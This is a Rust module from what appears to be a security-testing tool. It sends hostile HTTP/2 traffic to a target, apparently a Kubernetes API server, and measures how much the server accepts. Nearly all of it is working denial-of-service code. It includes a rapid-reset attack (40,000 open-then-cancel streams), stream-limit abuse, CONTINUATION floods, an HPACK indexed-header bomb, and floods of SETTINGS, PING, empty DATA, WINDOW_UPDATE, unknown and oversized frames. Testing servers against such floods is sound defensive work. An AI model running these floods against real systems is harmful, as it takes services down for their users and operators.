//! Frames of HTTP/2 that no client sends.

use std::time::Duration;

use futures::future::join_all;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    time::timeout,
};

use crate::target::{CONFIG_MAPS, Target};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const FOR: Duration = Duration::from_secs(4);

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut out = length[1..].to_vec();
    out.extend([kind, flags]);
    out.extend(stream.to_be_bytes());
    out.extend(payload);
    out
}

/// A header block (RFC 7541) with literals and nothing of the dynamic table.
fn head(method_index: u8, path: &str) -> Vec<u8> {
    let mut out = vec![0x80 | method_index, 0x87];
    out.extend([0x04, u8::try_from(path.len()).unwrap()]);
    out.extend(path.as_bytes());
    out.extend([0x01, 1, b'x']);
    out
}

const GET: u8 = 2;
const POST: u8 = 3;

/// Sends frames for a while over some connections, and reads only if asked to. The number of octets
/// that were taken.
async fn flood(target: &Target, connections: usize, frames: &[u8], reads: bool) -> usize {
    let taken = join_all((0..connections).map(|_| async {
        let Ok(stream) = target.door.open(Some("hostile"), "h2").await else { return 0 };
        let (mut reader, mut writer) = tokio::io::split(stream);
        let mut taken = 0;
        let writing = async {
            let start = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
            if writer.write_all(&start).await.is_err() {
                return;
            }
            for piece in frames.chunks(16 << 10) {
                if writer.write_all(piece).await.is_err() {
                    return;
                }
                taken += piece.len();
            }
            std::future::pending::<()>().await
        };
        let reading = async {
            let mut buffer = vec![0; 16 << 10];
            while reads && reader.read(&mut buffer).await.is_ok_and(|length| length > 0) {}
            if !reads {
                std::future::pending::<()>().await
            }
        };
        let _over = timeout(FOR, async {
            tokio::select! { () = writing => {}, () = reading => {} }
        })
        .await;
        taken
    }))
    .await;
    taken.iter().sum()
}

/// The number of a client's stream.
fn stream(n: u32) -> u32 {
    2 * n + 1
}

pub(crate) async fn rapid_reset(target: &Target) -> String {
    let path = format!("{CONFIG_MAPS}?watch=1");
    let frames: Vec<u8> = (0..40_000)
        .flat_map(|n| {
            let open = frame(HEADERS, END_STREAM | END_HEADERS, stream(n), &head(GET, &path));
            [open, frame(RST_STREAM, 0, stream(n), &[0, 0, 0, 8])].concat()
        })
        .collect();
    let read = flood(target, 10, &frames, true).await;
    let unread = flood(target, 10, &frames, false).await;
    format!(
        "of {} octets a connection {} were taken, {} where nobody reads",
        frames.len(),
        read / 10,
        unread / 10
    )
}

pub(crate) async fn more_streams_than_allowed(target: &Target) -> String {
    let watch = format!("{CONFIG_MAPS}?watch=1");
    let mut taken = Vec::new();
    for (method, path, flags) in
        [(GET, watch.as_str(), END_STREAM | END_HEADERS), (POST, CONFIG_MAPS, END_HEADERS)]
    {
        // The window of each is closed to the server's answer, and posts never get their body.
        let mut frames = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
        for n in 0..5000 {
            frames.extend(frame(HEADERS, flags, stream(n), &head(method, path)));
        }
        taken.push(flood(target, 10, &frames, true).await / 10);
    }
    format!("{taken:?} octets a connection were taken")
}

pub(crate) async fn floods_of_frames(target: &Target) -> String {
    let mut seen = Vec::new();
    let open = frame(HEADERS, END_STREAM, 1, &head(GET, CONFIG_MAPS));
    let endless =
        [open, frame(CONTINUATION, 0, 1, &[0x00, 1, b'a', 1, b'b'].repeat(2000)).repeat(2000)];
    let bomb = {
        // One large entry of the table, then thousands of references to it in a byte each.
        let mut block = head(GET, CONFIG_MAPS);
        block.extend([0x40, 1, b'a', 0x7f, 0x81, 0x1e]);
        block.extend([b'b'; 4000]);
        block.extend([0xbe; 12_000]);
        (0..200).flat_map(|n| frame(HEADERS, END_STREAM | END_HEADERS, stream(n), &block)).collect()
    };
    for (what, frames) in [
        ("continuations", endless.concat()),
        ("indexed headers", bomb),
        ("settings", frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]).repeat(200_000)),
        ("pings", frame(PING, 0, 0, &[7; 8]).repeat(200_000)),
        (
            "empty data",
            [
                frame(HEADERS, END_HEADERS, 1, &head(POST, CONFIG_MAPS)),
                frame(DATA, 0, 1, &[]).repeat(300_000),
            ]
            .concat(),
        ),
        ("windows", frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(200_000)),
        ("window overflow", frame(WINDOW_UPDATE, 0, 0, &[0x7f, 0xff, 0xff, 0xff]).repeat(10)),
        ("unknown kinds", frame(0xee, 0xff, 0, &[0; 100]).repeat(50_000)),
        ("a frame that is too large", frame(DATA, 0, 1, &vec![0; 1 << 20])),
        ("nonsense", vec![0xff; 1 << 20]),
    ] {
        let taken = flood(target, 5, &frames, false).await;
        seen.push(format!("{what} {} of {} kB", (taken / 5) >> 10, frames.len() >> 10));
    }
    format!("taken of each: {}", seen.join(", "))
}
